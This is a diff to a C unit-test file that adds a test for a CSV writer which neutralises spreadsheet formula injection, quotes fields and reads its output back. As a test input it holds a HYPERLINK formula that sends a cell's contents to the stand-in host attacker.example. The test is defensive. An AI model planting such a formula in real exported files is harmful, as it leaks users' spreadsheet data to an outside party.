@@ -1,4 +1,5 @@
-/* Tests of src/util/ (strbuf, arena, csvread, timeutil, config) and src/web/html.c. */
+/* Tests of src/util/ (strbuf, arena, csvread, csvwrite, timeutil, config) and src/web/html.c. */
+#include <math.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -6,6 +7,7 @@
 #include "util/arena.h"
 #include "util/config.h"
 #include "util/csvread.h"
+#include "util/csvwrite.h"
 #include "util/strbuf.h"
 #include "util/timeutil.h"
 #include "web/html.h"
@@ -125,6 +127,59 @@ static void test_csv(void **state)
     assert_int_equal(utf8_length("文云ab"), 4);
 }
 
+/* The CSV writer: byte-order mark, CRLF, quoting, formula-like text neutralised (OWASP:
+ * = + - @ tab CR), numbers as numbers; and its files read back as written. */
+static void test_csv_write(void **state)
+{
+    (void)state;
+    strbuf sb = STRBUF_INIT;
+    csvw w;
+    csvw_begin(&w, &sb);
+    const char *link = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"点击查看\")";
+    csvw_text(&w, link);
+    csvw_text(&w, "+86 812");
+    csvw_text(&w, "-1");
+    csvw_text(&w, "@SUM(A1)");
+    csvw_text(&w, "\tx");
+    csvw_text(&w, "\rx");
+    csvw_row_end(&w);
+    csvw_text(&w, "a,b");
+    csvw_text(&w, NULL);
+    csvw_text(&w, "文云");
+    csvw_int(&w, -42);
+    csvw_real(&w, -12.5, 1);
+    csvw_real(&w, NAN, 3);
+    csvw_text(&w, "'=kept");
+    csvw_row_end(&w);
+    assert_int_equal(csvw_finish(&w), 0);
+    assert_string_equal(sb.buf,
+                        "\xef\xbb\xbf"
+                        "\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"点击查看\"\")\","
+                        "'+86 812,'-1,'@SUM(A1),'\tx,\"'\rx\"\r\n"
+                        "\"a,b\",,文云,-42,-12.5,,'=kept\r\n");
+    /* an importer reads the neutralised text back as it was */
+    rows rs = {0};
+    char err[128];
+    assert_int_equal(csv_read_buffer(sb.buf, sb.len, collect, &rs, err, sizeof(err)), 0);
+    assert_int_equal(rs.n, 2);
+    assert_string_equal(csvw_plain(rs.first[0]), link);
+    assert_string_equal(csvw_plain("'-1"), "-1");
+    assert_string_equal(csvw_plain("'kept"), "'kept");
+    assert_string_equal(csvw_plain("plain"), "plain");
+    assert_true(csvw_formula_like("=1"));
+    assert_false(csvw_formula_like("1=1"));
+    assert_false(csvw_formula_like(""));
+    assert_false(csvw_formula_like(NULL));
+    sb_release(&sb);
+    /* an output past its maximum is an error, not a silently cut file */
+    strbuf small = STRBUF_INIT_MAX(8);
+    csvw_begin(&w, &small);
+    csvw_text(&w, "一二三四五六七八");
+    csvw_row_end(&w);
+    assert_int_equal(csvw_finish(&w), -1);
+    sb_release(&small);
+}
+
 static void test_time(void **state)
 {
     (void)state;
@@ -175,6 +230,7 @@ int main(void)
         cmocka_unit_test(test_strbuf_max),  cmocka_unit_test(test_arena),
         cmocka_unit_test(test_html_escape), cmocka_unit_test(test_csv),
         cmocka_unit_test(test_time),        cmocka_unit_test(test_config),
+        cmocka_unit_test(test_csv_write),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
